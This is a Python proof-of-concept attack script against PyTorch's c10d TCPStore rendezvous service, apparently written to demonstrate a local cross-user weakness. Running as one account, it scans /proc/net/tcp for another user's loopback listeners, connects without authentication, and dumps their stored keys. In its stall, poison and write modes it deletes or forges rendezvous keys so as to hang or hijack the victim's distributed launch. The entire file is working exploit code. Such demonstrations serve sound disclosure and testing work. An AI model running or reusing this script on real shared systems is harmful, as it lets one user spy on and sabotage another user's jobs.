"""Run as uid 65000 (another account) while the TA (uid 65534) runs the suite's spawned launches (tests/test_spawn.py,
part of `make test`). Finds the TA's listening loopback TCP ports in /proc/net/tcp, connects to each as a c10d
TCPStore client, lists and reads its keys, and (MODE=write) sets `left/1` and `done/<r>` so that the rendezvous
store's rank 0 leaves while the other rank still needs it."""
import datetime, os, socket, sys, time
import torch.distributed as dist

TA = 65534
MODE = os.environ.get("MODE", "read")
seen = set()
end = time.time() + float(os.environ.get("SECONDS_LEFT", "240"))
log = open(os.environ.get("LOG", "/dev/stdout"), "a", buffering=1)

def listeners():
    out = []
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and int(f[7]) == TA:
            ip, port = f[1].split(":")
            if ip == "0100007F":
                out.append(int(port, 16))
    return out

import threading
def attack(port):
        try:
            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=2))
        except Exception as e:
            log.write(f"{time.strftime('%T')} port {port}: not a store ({type(e).__name__})\n")
            return
        try:
            keys = store.list_keys()
        except Exception as e:
            keys = [f"(list_keys failed: {e})"]
        log.write(f"{time.strftime('%T')} port {port}: TA's TCPStore, {store.num_keys()} keys: {keys}\n")
        for k in keys[:20]:
            try:
                log.write(f"    {k!r} = {store.get(k)[:200]!r}\n")
            except Exception as e:
                log.write(f"    {k!r}: {e}\n")
        if MODE == "stall":
            t0 = time.time()
            while time.time() - t0 < 30:
                try:
                    if store.check(["left/1"]):
                        store.delete_key("left/1")
                        log.write(f"    deleted the TA's 'left/1' (uid {os.getuid()})\n")
                        break
                except Exception as e:
                    log.write(f"    {type(e).__name__}\n"); break
                time.sleep(0.001)
        if MODE == "poison":
            for r in range(4):
                k = f"0//cpu//0/{r}"
                if k not in keys:
                    store.set(k, b"\x02" + b"\x00" * 300)  # a rank's gloo address that has not been published yet
                    log.write(f"    poisoned {k!r} before its rank published it (uid {os.getuid()})\n")
        if MODE == "write":
            store.set("from-65000", "written by uid %d" % os.getuid())
            for r in range(2):
                store.set(f"done/{r}", "1")
            store.set("left/1", "1")
            log.write(f"    wrote from-65000, done/0, done/1, left/1 (uid {os.getuid()})\n")
        if MODE == "write":
            time.sleep(1.0)
            try:
                log.write(f"    after 1 s: {store.list_keys()}\n")
            except Exception as e:
                log.write(f"    after 1 s: {type(e).__name__}\n")

while time.time() < end:
    for port in listeners():
        if port not in seen:
            seen.add(port)
            threading.Thread(target=attack, args=(port,), daemon=True).start()
    time.sleep(0.002)
